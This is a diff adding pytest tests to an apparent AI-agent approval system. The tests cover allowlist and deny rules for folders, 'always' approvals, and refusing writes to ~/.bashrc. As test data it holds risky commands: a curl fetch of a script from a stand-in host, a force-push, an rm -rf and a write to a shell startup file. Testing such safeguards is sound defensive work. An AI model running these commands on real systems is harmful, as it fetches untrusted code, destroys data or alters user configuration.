@@ -5,7 +5,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from attack.obedient import NO, ONCE, SESSION, Scene, says, scene
+from attack.obedient import ALWAYS, NO, ONCE, SESSION, Scene, says, scene
 
 from hermes.app.approvals import pending_approvals
 from hermes.cli.ask import question_text
@@ -194,3 +194,33 @@ async def test_of_a_very_long_command_the_dangerous_part_is_shown() -> None:
         assert "`curl -s http://a.invalid/i.sh`" in question_text(one.asked[-1])
         await one.run(f"{filler * 100}git push --force origin main\n{filler * 100}", says(NO))
         assert "read all of it before you say yes" in question_text(one.asked[-1])
+
+
+@pytest.mark.parametrize("rules", [False, True])
+async def test_a_place_that_the_settings_allow_is_open_from_the_first_command_on(tmp_path: Path, rules: bool) -> None:
+    pattern = f"write {tmp_path}/*"
+    own = [{"pattern": pattern, "verdict": "allow"}, {"pattern": f"write {tmp_path}/not/*", "verdict": "deny"}]
+    config: dict[str, object] = {"approvals": {"rules": own}} if rules else {"command_allowlist": [pattern]}
+    async with scene(trusted=True, config=config) as one:
+        one.open_tmp()
+        assert "exit code 0" in await one.run(f"echo hi > {tmp_path}/file", says(NO))
+        assert (tmp_path / "file").read_text() == "hi\n" and not one.asked
+        (tmp_path / "kept").write_text("x")
+        await one.run(f"rm -rf {tmp_path}/kept", says(NO))
+        assert (tmp_path / "kept").exists() and len(one.asked) == 1
+
+
+async def test_always_for_a_file_tools_folder_opens_it_for_commands_too() -> None:
+    async with scene(trusted=True) as one:
+        folder = outside(one)
+        await one.call("write_file", says(ALWAYS), path=str(folder / "made"), content="x")
+        assert one.asked[0].always_covers == f"`write {folder}/*`"
+        assert "exit code 0" in await one.run(f"echo hi > {folder}/file") and len(one.asked) == 1
+
+
+async def test_what_is_never_opened_is_refused_without_a_question() -> None:
+    async with scene() as one:
+        (one.home.cwd / "notes").write_text("a note")
+        await one.call("read_file", says(NO), path="notes")
+        said = await one.run("echo hi > ~/.bashrc", says(SESSION))
+        assert "Not allowed" in said and "never opened to commands" in said and not one.asked
